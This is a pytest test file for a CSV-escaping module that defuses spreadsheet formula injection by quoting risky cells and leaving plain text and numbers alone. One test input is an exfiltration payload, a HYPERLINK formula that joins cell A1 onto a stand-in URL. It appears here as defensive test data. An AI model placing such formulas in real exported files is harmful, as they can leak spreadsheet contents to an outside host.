"""CSV cells a spreadsheet would run as formulas are written as text; numbers stay numbers."""

import csv
import io

import pytest

from documents import csvsafe


@pytest.mark.parametrize("text", [
    "=HYPERLINK(\"http://x\"&A1,\"bấm\")", "+1", "-1+2", "@SUM(A1)", "\t=1", "\r=1",
])
def test_formula_starts_get_a_quote(text):
    assert csvsafe.safe_cell(text) == "'" + text
    assert csvsafe.unsafe_cell(csvsafe.safe_cell(text)) == text


@pytest.mark.parametrize("value", ["Đường ngập", "", "1-2", "a=b", -1.5, 0, None, 3.0])
def test_ordinary_text_and_numbers_untouched(value):
    assert csvsafe.safe_cell(value) == value


def test_writer_neutralises_strings_only_and_formats_after_the_check():
    buffer = io.StringIO()
    writer = csvsafe.writer(buffer, lineterminator="\n",
                            format=lambda v: "" if v is None else str(v))
    writer.writerow(["ten", "so"])
    writer.writerows([["=1+1", -1.5], ["-bình thường", None]])
    rows = list(csv.reader(io.StringIO(buffer.getvalue())))
    assert rows == [["ten", "so"], ["'=1+1", "-1.5"], ["'-bình thường", ""]]
